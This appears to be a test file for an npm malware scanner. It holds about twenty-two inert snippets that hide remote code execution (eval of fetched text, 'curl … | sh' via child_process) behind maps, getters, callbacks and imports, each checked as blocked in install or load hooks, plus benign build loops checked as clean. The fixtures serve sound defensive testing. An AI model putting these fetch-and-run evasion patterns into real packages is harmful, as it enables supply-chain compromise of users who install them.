import assert from "node:assert/strict";
import { test } from "node:test";
import { packageOf } from "../../test/support/npm-attack.ts";
import { verdictOf } from "../../test/support/verdict-of.ts";

const FETCHED = "await (await fetch('https://example.invalid/a.js')).text()";
const COMMAND = "'curl -s https://example.invalid/a.sh | sh'";
const TWO = "['curl -s https://example.invalid/a.sh -o /tmp/a', 'sh /tmp/a']";
const now = (body: string) => `(async () => { ${body} })();`;
const started = (body: string) => `const cp = require('child_process');\n${body}`;

/** Ways to run what a server says, or a command that fetches, without calling it by its name; inert. */
const DETOURS: Readonly<Record<string, string>> = {
  "by a map": now(`const m = new Map([['e', eval]]); m.get('e')(${FETCHED})`),
  "by a map that is filled": now(`const m = new Map(); m.set('e', eval); m.get('e')(${FETCHED})`),
  "by an entry of a table": now(`const o = {}; o['e'] = eval; o['e'](${FETCHED})`),
  "by a property": now(`const o = {}; o.e = eval; o.e(${FETCHED})`),
  "by a getter": now(`const o = { get e() { return eval; } }; o.e(${FETCHED})`),
  "by a getter of a class": `class A { get e() { return eval; } }\n${now(`new A().e(${FETCHED})`)}`,
  "by a defined property": `const o = {};\nObject.defineProperty(o, 'e', { get: () => eval });\n${now(`o.e(${FETCHED})`)}`,
  "by a loop over functions": now(`for (const f of [eval]) f(${FETCHED})`),
  "by a callback for each function": now(`const t = ${FETCHED}; [eval].forEach((f) => f(t))`),
  "by a function that calls what it is given": `const run = (f, x) => f(x);\n${now(`run(eval, ${FETCHED})`)}`,
  "by a function that gives it back": `function g() { if (x) return eval; return null; }\n${now(`g()(${FETCHED})`)}`,
  "by a choice": now(`const f = x || eval; f(${FETCHED})`),
  "by handing it to an answer": "fetch('https://example.invalid/a.js').then((r) => r.text()).then(eval);",
  "by an import of the text": now(`await import('data:text/javascript,' + encodeURIComponent(${FETCHED}))`),
  "by a command in a map": started(`new Map([['e', cp.exec]]).get('e')(${COMMAND})`),
  "by a function that is given the command": started(`const run = (x) => cp.exec(x); run(${COMMAND})`),
  "by a function that puts the command together": started(
    "function run(...w) { cp.exec(w.join(' ')); }\nrun('curl', '-s', 'https://example.invalid/a.sh', '|', 'sh')",
  ),
  "by a list of commands": started(`for (const c of ${TWO}) cp.execSync(c)`),
  "by a callback for each command": started(`${TWO}.forEach((c) => cp.execSync(c))`),
  "by handing over what starts each command": started(`${TWO}.forEach(cp.execSync)`),
  "by an import that is taken apart": `import('child_process').then(({ exec }) => exec(${COMMAND}));`,
  "by an object made of the module": started(`Object.create(cp).exec(${COMMAND})`),
};

for (const [how, script] of Object.entries(DETOURS))
  test(`an npm package that runs what it fetches ${how} is blocked, at installation and when it is loaded`, () => {
    assert.equal(verdictOf("npm", packageOf({ postinstall: script })), "malicious");
    assert.equal(verdictOf("npm", packageOf({ main: script })), "malicious");
  });

test("tables of functions, tests that replace what starts programs, and loops over builds are honest", () => {
  const honest = [
    started("const tasks = { build: () => cp.execSync('make') };\nfor (const t of Object.values(tasks)) t();"),
    started("for (const c of ['npm run build', 'npm test']) cp.execSync(c);"),
    `${started("const { promisify } = require('util');\nconst run = promisify(cp.exec);")}\nrun('git status');`,
    "const answers = new Map();\nfetch('https://example.invalid/a.json').then((r) => r.json()).then((d) => answers.set('a', d));",
  ];
  for (const main of honest) assert.equal(verdictOf("npm", packageOf({ main })), "clean", main);
});
